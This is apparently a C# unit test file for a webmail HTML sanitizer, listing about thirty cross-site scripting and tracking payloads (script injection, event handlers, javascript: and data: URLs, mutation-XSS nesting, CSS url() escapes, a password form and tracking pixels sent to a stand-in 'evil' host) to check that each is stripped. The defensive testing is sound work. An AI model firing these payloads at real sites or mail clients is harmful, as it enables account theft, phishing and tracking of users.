using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Webmail.Mail.Html;

namespace Tests.Unit.Webmail;

public sealed class HtmlCleanerTests
{
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><animate attributeName=' style' to='background:url(//evil)'></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>@import 'http://evil/x.css'; body{background:url(http://evil)}</style>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<img src=' data:image/svg +xml,evil'>",
        "<img src=http://evil/track.png>",
        "<img srcset='http://evil/a 1x'>",
        "<video poster=http://evil/p><source src=http://evil/v></video>",
        "<body background=http://evil/b>",
        "<table background=http://evil/b><tr><td background=http://evil/c></table>",
        "<p style='background:url(http://evil/x)'>x</p>",
        "<p style='background:u\\72l(http://evil/x)'>x</p>",
        "<p style='--a:url(http://evil/x);background:var(--a)'>x</p>",
        "<p style='background:image-set(\"http://evil/x\" 1x)'>x</p>",
        "<p style='position:fixed!important;top:0;left:0;width:100%'>x</p>",
        "<form action=http://evil/><input name=password><button>Go</button></form>",
        "<base href=http://evil/>",
        "<meta http-equiv=refresh content='0;url=http://evil/'>",
        "<link rel=stylesheet href=http://evil/x.css>",
        "<iframe src=http://evil/></iframe><object data=http://evil/></object><embed src=http://evil/>",
        "<blockquote cite=http://evil/>x</blockquote>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<input type=image src=http://evil/x>",
        "<a href=http://good/ ping=http://evil/>x</a>",
    ];

    private static readonly string[] Forbidden =
        ["script", "svg", "math", "style", "form", "input", "button", "iframe", "object", "embed", "base", "meta", "link", "noscript"];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Clean_Attack_LeavesNothingThatRunsOrLoads(string attack)
    {
        var clean = new HtmlCleaner().Clean(attack, _ => null);

        // What a browser would make of it decides, not what the text looks like.
        var body = new HtmlParser().ParseDocument($"<body>{clean}</body>").Body!;
        Assert.DoesNotContain(body.QuerySelectorAll("*"), element => Forbidden.Contains(element.LocalName));
        Assert.DoesNotContain(body.QuerySelectorAll("*").SelectMany(element => element.Attributes), IsDangerous);
    }

    [Fact]
    public void Clean_CleanedAgain_StaysTheSame()
    {
        var cleaner = new HtmlCleaner();
        var once = cleaner.Clean(string.Concat(Attacks.Select(row => row.Data)), _ => null);

        Assert.Equal(once, cleaner.Clean(once, _ => null));
    }

    [Fact]
    public void Clean_Link_OpensElsewhereWithoutReferrer() =>
        Assert.Equal(
            "<a href=\"https://example.test/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
            new HtmlCleaner().Clean("<a href='https://example.test/' target=_top>x</a>", _ => null));

    [Fact]
    public void Clean_ImageByContentId_PointsToItsPart() =>
        Assert.Equal(
            "<img src=\"/part/logo\">", new HtmlCleaner().Clean("<img src='cid:logo'>", cid => $"/part/{cid}"));

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("https://a.test/\"onmouseover=alert(1)")]
    [InlineData("[1] <http://a.test/'><img src=x onerror=alert(1)>")]
    public void ToHtml_HostilePlainText_IsEncoded(string text)
    {
        var html = PlainText.ToHtml(text);

        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\"onmouseover", html, StringComparison.Ordinal);
    }

    private static bool IsDangerous(IAttr attribute) =>
        attribute.Name.StartsWith("on", StringComparison.Ordinal)
        || attribute.Value.Contains("evil", StringComparison.OrdinalIgnoreCase)
        || attribute.Value.Contains("script:", StringComparison.OrdinalIgnoreCase)
        || attribute.Value.Contains("data:", StringComparison.OrdinalIgnoreCase)
        || attribute.Value.Contains("fixed", StringComparison.OrdinalIgnoreCase);
}
